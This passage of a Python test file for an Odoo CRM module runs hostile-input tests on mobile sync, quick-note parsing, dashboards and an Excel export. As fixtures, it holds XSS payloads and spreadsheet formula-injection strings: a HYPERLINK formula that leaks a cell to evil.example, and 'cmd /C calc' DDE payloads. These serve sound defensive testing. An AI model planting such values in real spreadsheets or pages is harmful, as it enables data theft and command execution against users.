    @freeze_time(NOW)  # once for all examples: freezing the clock takes time
    @settings(CI, max_examples=10)
    @given(case=either(st.integers(1, 3), JSON))
    def test_mobile_sync_with_anything_but_a_list(self, case):
        valid, entries = case
        self._count_outcome("valid input" if valid else "hostile input")
        with self._example():
            if valid:
                entries = [self._mobile_entry(f"listed-{index}") for index in range(entries)]
            refusals = [] if isinstance(entries, list) else [(UserError, "Send the entries as a list.")]
            Mobile = self.env["crm.anchor.mobile"].with_user(self.salesman)
            results, _error = self._attempt(lambda: Mobile.sync_entries(entries), refusals)
            if results is None:
                return
            if valid:
                self.assertEqual([r["status"] for r in results], ["created"] * len(entries))
            else:
                # What JSON makes of an entry is no dictionary with an identifier.
                self.assertEqual(
                    [(r["status"], r["message"]) for r in results],
                    [("refused", "This entry has no identifier, so it cannot be received safely.")]
                    * len(entries),
                )

    def test_mobile_entry_html_is_escaped_in_chatter_and_calendar(self):
        entry = dict(
            self._mobile_entry("uuid-escaped"),
            agreed_action="other",
            agreed_action_note=f"<b>bold</b>{SCRIPT}",
            quick_note=f"{SCRIPT} 客户嫌安装慢",
        )
        [result] = self.env["crm.anchor.mobile"].with_user(self.salesman).sync_entries([entry])
        self.assertEqual(result["status"], "created", result["message"])
        visit = self.env["crm.anchor.visit"].browse(result["visit_id"])
        note = visit.message_ids.filtered(lambda m: "客户嫌安装慢" in (m.body or ""))
        self.assertIn("&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;", note.body)
        self.assertNoMarkupFrom(note.body, SCRIPT)
        event = self.env["calendar.event"].search([("res_id", "=", self.visit_lead.id)])
        self.assertIn("&lt;b&gt;bold&lt;/b&gt;&lt;script&gt;", event.description)
        self.assertNoMarkupFrom(event.description, entry["agreed_action_note"])

    def test_reasons_and_template_names_are_escaped_in_chatter(self):
        visit = self._visit(self.visit_lead, date_next_followup=self._followup(), state="submitted")
        visit.with_user(self.manager).action_reopen(SCRIPT)
        self.assertIn("&lt;script&gt;", visit.message_ids[0].body)
        self.assertNoMarkupFrom(visit.message_ids[0].body, SCRIPT)
        lead = self._lead()
        self.env["crm.anchor.stage.force"].with_user(self.manager).create(
            {"lead_id": lead.id, "stage_id": self.stage["quote"].id, "reason": SCRIPT}
        ).action_confirm()
        self.assertIn("&lt;script&gt;", lead.message_ids[0].body)
        self.assertNoMarkupFrom(lead.message_ids[0].body, SCRIPT)
        template = self.env["crm.anchor.template"].create(
            {"name": SCRIPT, "pain_category_id": self.category_price.id, "what_to_say": "先试用再付款"}
        )
        template.action_publish()
        draft = self._visit(self.visit_lead, date_next_followup=self._followup())
        template.with_user(self.salesman).with_context(anchor_visit_id=draft.id).action_use_in_visit()
        self.assertIn("&lt;script&gt;", draft.message_ids[0].body)
        self.assertNoMarkupFrom(draft.message_ids[0].body, SCRIPT)

    def test_qr_report_escapes_names(self):
        self.salesman.name = SCRIPT
        report = self.env.ref("sales_action_anchor.action_report_anchor_mobile_qr_user")
        html, _type = self.env["ir.actions.report"]._render_qweb_html(report.report_name, self.salesman.ids)
        html = html.decode()
        self.assertIn("&lt;script&gt;alert(1)&lt;/script&gt;", html)
        self.assertNotIn(SCRIPT, html)

    @settings(CI, max_examples=15)
    @given(case=either(st.tuples(STORABLE_TEXT, STORABLE_TEXT), st.tuples(HOSTILE_TEXT, HOSTILE_TEXT)))
    @example(case=(True, ("安装太慢", LONG_SUMMARY)))
    def test_talk_template_with_hostile_text(self, case):
        valid, (pain, what_to_say) = case
        self._count_outcome("valid input" if valid else "hostile input")
        refusals = [
            (UserError, unsavable(label))
            for label, text in (("Pain Point", pain), ("What to Say", what_to_say))
            if "\x00" in text
        ]
        self.assertEqual(refusals if valid else [], [], "the strategy of valid texts made invalid ones")
        with self._example():
            Template = self.env["crm.anchor.template"].with_user(self.manager)
            vals = {
                "pain_category_id": self.category_price.id,
                "pain_point": pain,
                "what_to_say": what_to_say,
            }
            template, _error = self._attempt(lambda: Template.create(vals), refusals)
            if template:
                template.invalidate_recordset()
                self.assertEqual((template.pain_point, template.what_to_say), (pain, what_to_say))

    # ------------------------------------------------------------------
    # Quick note, dashboard and morning views over RPC
    # ------------------------------------------------------------------

    @settings(CI, max_examples=30)
    @given(
        case=either(
            st.tuples(
                st.one_of(TEXT, st.sampled_from(["客户嫌安装慢，明天下午3点电话", "demo tomorrow 10am"])),
                st.one_of(st.none(), st.datetimes(datetime(1900, 1, 1)).map(fields.Datetime.to_string)),
            ),
            st.tuples(
                st.one_of(HOSTILE_TEXT, JSON),
                st.one_of(
                    st.none(),
                    DATETIMES.map(fields.Datetime.to_string),
                    st.sampled_from([local.isoformat(" ") for _zone, local in DST_EDGES]),
                    JSON,
                ),
            ),
        ),
        tz=st.sampled_from(TIMEZONES),
        utc_now=st.datetimes(min_value=datetime(2026, 1, 1), max_value=datetime(2026, 12, 31)),
    )
    def test_parse_quick_note_over_rpc(self, case, tz, utc_now):
        valid, (text, now) = case
        self._count_outcome("valid input" if valid else "hostile input")
        utc_now = utc_now.replace(microsecond=0)
        try:
            moment = (
                fields.Datetime.to_datetime(now)
                if now and isinstance(now, str)
                else None
                if not now
                else False
            )
        except ValueError:
            moment = False
        refusals = [(UserError, NOW_FORMAT)] if moment is False else []
        self.assertEqual(refusals if valid else [], [], "the strategy of valid notes made invalid ones")
        if moment is None:  # the current time where the salesperson is
            moment = pytz.utc.localize(utc_now).astimezone(pytz.timezone(tz)).replace(tzinfo=None)
        with self._example(), freeze_time(utc_now):
            self.salesman.tz = tz
            Visit = self.env["crm.anchor.visit"].with_user(self.salesman)
            result, _error = self._attempt(lambda: Visit.parse_quick_note(text, now), refusals)
            if result is not None:
                # The parser's reading of the note, at the moment given or the user's now.
                self.assertEqual(result, quick_note.parse(text or "", moment))

    def test_followups_at_dst_edges_in_the_users_timezone(self):
        """A note parsed at a missing (New York) or repeated (Berlin) local hour
        gives the wall-clock time; the page turns it into UTC in the user's
        zone (entry_queue.js), and the agreed action falls due on that local day."""
        cases = [
            # zone, UTC now, note, local follow-up, its UTC hour, UTC of that day's 08:50 deadline
            (
                "America/New_York",
                datetime(2026, 3, 8, 6, 59),
                "今天下午3点打电话",
                "2026-03-08 15:00:00",
                19,
                12,
            ),
            (
                "America/New_York",
                datetime(2026, 3, 8, 7, 1),
                "tomorrow 10am demo",
                "2026-03-09 10:00:00",
                14,
                12,
            ),
            ("Europe/Berlin", datetime(2026, 10, 25, 0, 30), "明天上午10点演示", "2026-10-26 10:00:00", 9, 7),
            (
                "Europe/Berlin",
                datetime(2026, 10, 25, 1, 30),
                "今天下午3点打电话",
                "2026-10-25 15:00:00",
                14,
                7,
            ),
        ]
        Visit = self.env["crm.anchor.visit"].with_user(self.salesman)
        for zone, utc_now, note, local, utc_hour, deadline_hour in cases:
            with self.subTest(zone=zone, utc_now=utc_now), self._example(), freeze_time(utc_now):
                self.salesman.tz = zone
                tz = pytz.timezone(zone)
                local_now = pytz.utc.localize(utc_now).astimezone(tz).replace(tzinfo=None)
                parsed = Visit.parse_quick_note(note)
                self.assertEqual(parsed, Visit.parse_quick_note(note, fields.Datetime.to_string(local_now)))
                self.assertEqual(parsed["date_next_followup"], local)
                followup = tz.localize(fields.Datetime.to_datetime(local)).astimezone(pytz.utc)
                self.assertEqual(followup.hour, utc_hour)
                visit = self._visit(
                    self.visit_lead, date_next_followup=followup.replace(tzinfo=None), state="submitted"
                )
                self.assertEqual(str(visit.activity_id.date_deadline), local[:10])
                self.assertIn(local[:16], str(visit.activity_id.note))
                # The morning check-in deadline (08:50 local) of that day, in UTC.
                checkin = self.env["crm.anchor.checkin"].create(
                    {"user_id": self.salesman.id, "team_id": self.team.id, "date": local_now.date()}
                )
                deadline = checkin._deadline(8 + 50 / 60)
                expected = datetime.combine(local_now.date(), datetime.min.time()).replace(
                    hour=deadline_hour, minute=50
                )
                self.assertLess(abs(deadline - expected), timedelta(seconds=1))

    @staticmethod
    def _period_refusals(date_from, date_to, team_ids, user_ids):
        """The rules a dashboard or morning view asked for with these arguments breaks."""
        refusals = []
        try:
            if not all(not value or isinstance(value, (str, date)) for value in (date_from, date_to)):
                raise ValueError
            start, end = fields.Date.to_date(date_from), fields.Date.to_date(date_to)
        except ValueError:
            refusals.append((UserError, DATES_FORMAT))
        else:
            if not start or not end or start > end:
                refusals.append((UserError, PERIOD_ORDER))
            elif not (in_range(start) and in_range(end)):
                refusals.append((UserError, PERIOD_RANGE))
        for ids in (team_ids, user_ids):
            if ids and not (
                isinstance(ids, (list, tuple))
                and all(type(i) is int and 0 < i < 2**31 for i in ids)  # True is no id
            ):
                refusals.append((UserError, ID_LISTS))
                break
        return refusals

    @settings(CI, max_examples=20)
    @given(
        case=either(
            st.tuples(
                st.lists(RECENT_DAYS, min_size=2, max_size=2).map(sorted),
                st.one_of(st.none(), st.lists(st.integers(1, 50), max_size=2)),
                st.one_of(st.none(), st.lists(st.integers(1, 50), max_size=2)),
            ),
            st.tuples(
                st.lists(st.one_of(RECENT_DAYS, st.dates().map(str), JSON), min_size=2, max_size=2),
                st.one_of(st.none(), st.lists(st.integers(1, 50), max_size=2), IDS, JSON),
                st.one_of(st.none(), st.lists(st.integers(1, 50), max_size=2), IDS, JSON),
            ),
        ),
        model=st.sampled_from(["crm.anchor.dashboard", "crm.anchor.morning"]),
    )
    def test_dashboard_and_morning_views_with_bad_arguments(self, case, model):
        valid, ((date_from, date_to), team_ids, user_ids) = case
        self._count_outcome("valid input" if valid else "hostile input")
        refusals = self._period_refusals(date_from, date_to, team_ids, user_ids)
        self.assertEqual(refusals if valid else [], [], "the strategy of valid arguments made invalid ones")
        with self._example():
            Model = self.env[model].with_user(self.manager)
            data, _error = self._attempt(
                lambda: Model.get_data(date_from, date_to, team_ids, user_ids), refusals
            )
            if data is not None:
                self.assertEqual(
                    (data["period"]["date_from"], data["period"]["date_to"]),
                    (str(fields.Date.to_date(date_from)), str(fields.Date.to_date(date_to))),
                )

    def test_word_cloud_words_are_plain_text(self):
        """The morning view's words are data, rendered by OWL with t-esc
        (tests/unit checks the templates): no markup is added nor kept."""
        self._visit(
            self.visit_lead,
            pain_summary=f"{SCRIPT} 交期太长 delivery delays",
            date_visit=fields.Datetime.now() - timedelta(hours=2),
            date_next_followup=self._followup(),
            state="submitted",
        )
        today = fields.Date.context_today(self.env.user)
        data = self.env["crm.anchor.morning"].get_data(
            str(today - timedelta(days=2)), str(today + timedelta(days=1)), user_ids=[self.salesman.id]
        )
        words = {entry["word"] for entry in data["words"]}
        self.assertIn("交期", words)
        self.assertFalse({word for word in words if set(word) & set("<>&\"'")}, words)


@tagged("post_install", "-at_install")
class TestHostileXlsx(HostileMixin, HttpCase):
    """The dashboard's Excel export: bad parameters are a 400 with a message,
    and names that look like formulas stay text."""

    FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.team = cls.env.ref("sales_action_anchor.crm_team_anchor")
        cls.manager = new_test_user(cls.env, "hostile_xlsx_manager", groups="sales_team.group_sale_manager")
        cls.rep = new_test_user(
            cls.env, "hostile_xlsx_rep", groups="sales_team.group_sale_salesman", name=cls.FORMULA_NAME
        )
        cls.team.member_ids |= cls.manager | cls.rep
        lead = cls.env["crm.lead"].create(
            {
                "name": SCRIPT,
                "type": "opportunity",
                "team_id": cls.team.id,
                "user_id": cls.rep.id,
                "partner_id": cls.env["res.partner"].create({"name": "@SUM(1+1)*cmd|' /C calc'!A0"}).id,
                "stage_id": cls.env.ref("sales_action_anchor.stage_anchor_lead").id,
            }
        )
        cls.env["crm.anchor.visit"].create(
            {
                "lead_id": lead.id,
                "user_id": cls.rep.id,
                "pain_category_id": cls.env.ref("sales_action_anchor.pain_category_price").id,
                "pain_summary": "=cmd|' /C calc'!A0 客户说安装太慢，影响交付",
                "value_point": "+1+1",
                "agreed_action": "send_quote",
                "date_next_followup": fields.Datetime.now() + timedelta(days=2),
                "followup_channel": "phone",
                "state": "submitted",
                "signal_ids": [(6, 0, cls.env.ref("sales_action_anchor.signal_second_quote").ids)],
            }
        )

    def _get(self, **params):
        return self.url_open(f"/sales_action_anchor/dashboard/xlsx?{urlencode(params)}")

    @staticmethod
    def _expected_response(params):
        """The status and message the export answers ``params`` with: its
        parameters are read in order, the first that is wrong is named."""
        dates = {}
        for name in ("date_from", "date_to"):
            value = params.get(name)
            if not value:
                return 400, f"Missing parameter {name}: a date as YYYY-MM-DD."
            try:
                if not re.fullmatch(r"\d{4}-\d{2}-\d{2}", value):
                    raise ValueError(value)
                dates[name] = date.fromisoformat(value)
            except ValueError:
                return 400, f"Invalid {name} “{value}”: expected a date as YYYY-MM-DD."
        if dates["date_from"] > dates["date_to"]:
            return 400, "The start date (date_from) must not be after the end date (date_to)."
        ids = {}
        for name in ("team_ids", "user_ids"):
            value = (params.get(name) or "").replace(" ", "")
            if value and not re.fullmatch(r"\d+(,\d+)*", value):
                return 400, f"Invalid {name} “{value}”: expected ids separated by commas, e.g. 3,7."
            ids[name] = [int(i) for i in value.split(",")] if value else []
        # Then the dashboard's own rules, as for any client.
        if not (in_range(dates["date_from"]) and in_range(dates["date_to"])):
            return 400, PERIOD_RANGE
        if any(not 0 < i < 2**31 for i in ids["team_ids"] + ids["user_ids"]):
            return 400, ID_LISTS
        return 200, None

    @settings(CI, max_examples=12)
    @given(
        case=either(
            st.fixed_dictionaries(
                {"date_from": RECENT_DAYS, "date_to": st.just("2027-12-31")},
                optional={
                    "team_ids": st.lists(st.integers(1, 50), max_size=3).map(
                        lambda ids: ",".join(map(str, ids))
                    )
                },
            ),
            st.dictionaries(
                st.sampled_from(["date_from", "date_to", "team_ids", "user_ids"]),
                st.one_of(
                    TEXT.filter(lambda text: "\x00" not in text),  # a URL cannot carry NUL
                    st.dates().map(str),
                    st.sampled_from(["0001-01-01", "9999-12-31", "99999999999", "1,2,99999999999", SCRIPT]),
                ),
            ),
        )
    )
    def test_bad_parameters_are_a_400_with_a_message(self, case):
        valid, params = case
        self._count_outcome("valid input" if valid else "hostile input")
        self.authenticate("hostile_xlsx_manager", "hostile_xlsx_manager")
        params = {"date_from": "2026-01-01", "date_to": "2026-01-31", **params}
        status, message = self._expected_response(params)
        self.assertEqual(status if valid else 200, 200, "the strategy of valid parameters made invalid ones")
        response = self._get(**params)
        self._count_outcome(f"HTTP {response.status_code}")
        self.assertEqual(response.status_code, status, response.text[:300])
        if status == 400:
            self.assertIn("Bad Request", response.text)
            # Werkzeug's page shows each line break as <br>.
            self.assertIn(message, html.unescape(response.text.replace("<br>", "\n")))
            self.assertNotIn("Traceback", response.text)
            self.assertNotIn("<script>", response.text)
        else:
            workbook = openpyxl.load_workbook(io.BytesIO(response.content))
            self.assertEqual(workbook.worksheets[0].title, "Stages")

    def test_formula_like_names_are_written_as_text(self):
        self.authenticate("hostile_xlsx_manager", "hostile_xlsx_manager")
        today = fields.Date.today()
        response = self._get(date_from=str(today - timedelta(days=7)), date_to=str(today + timedelta(days=7)))
        self.assertEqual(response.status_code, 200, response.text[:300])
        workbook = openpyxl.load_workbook(io.BytesIO(response.content))
        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
        # No cell holds a formula (xlsxwriter's write() would make one of "=..."): user text is text.
        self.assertFalse([cell.coordinate for cell in cells if cell.data_type == "f"])
        texts = {cell.value for cell in cells if cell.data_type == "s"}
        self.assertIn(self.FORMULA_NAME, texts)
        self.assertTrue([text for text in texts if text.endswith("@SUM(1+1)*cmd|' /C calc'!A0")], texts)
